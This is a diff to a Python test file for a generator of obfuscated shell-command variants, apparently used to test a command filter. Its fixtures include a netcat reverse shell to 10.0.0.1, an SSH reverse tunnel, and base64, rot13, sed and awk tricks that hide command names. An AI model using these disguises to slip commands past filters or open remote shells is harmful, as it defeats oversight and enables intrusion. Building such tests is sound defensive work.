@@ -63,11 +63,14 @@ def test_variant_kinds_are_generated():
     assert names == {"base64_pipe_shell", "bash_c", "script_written_then_run", "variable_split_name",
                      "changed_quoting", "absolute_path", "brace_words", "line_continuation", "empty_expansion", "ifs_spaces",
                      "ifs_fields", "arithmetic", "unset_variable", "rot13_tr_shell", "sed_masked_shell", "copied_program",
-                     "positional_words"}
+                     "positional_words", "awk_printed_shell"}  # (upper case in it: no awk_lowercased_shell)
     assert variants("ssh x")["copied_program"] == "cp $(command -v ssh) /tmp/.cache-5 && /tmp/.cache-5 x"
     assert variants("ssh x")["positional_words"] == "sh -c '\"$0\" \"$@\"' ssh x"
     assert variants("id")["rot13_tr_shell"] == "printf '%s\\n' vq | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash"
     assert variants("ssh x")["sed_masked_shell"] == "printf '%s\\n' '~~h x' | sed 's/~/s/g' | bash"
+    assert variants('ssh "x"')["awk_printed_shell"] == "awk 'BEGIN{print \"s\" \"sh \\\"x\\\"\"}' | bash"
+    assert variants("ssh x")["awk_lowercased_shell"] == "printf '%s\\n' 'SSH X' | awk '{print tolower($0)}' | bash"
+    assert "awk_lowercased_shell" not in variants("ssh X")  # tolower would change what it runs
     assert variants("ssh -R 1:l:22 host.example")["unset_variable"] == "s${zq}sh -R 1:l:22 host.example"
     assert variants("ssh -R 1:l:22 host.example")["ifs_fields"] == "IFS=,; c=ssh,-R,1:l:22,host.example; $c"
     assert variants("nc -e /bin/sh 10.0.0.1 4444")["arithmetic"] == "nc -e /bin/sh $((5+5)).0.0.1 4444"
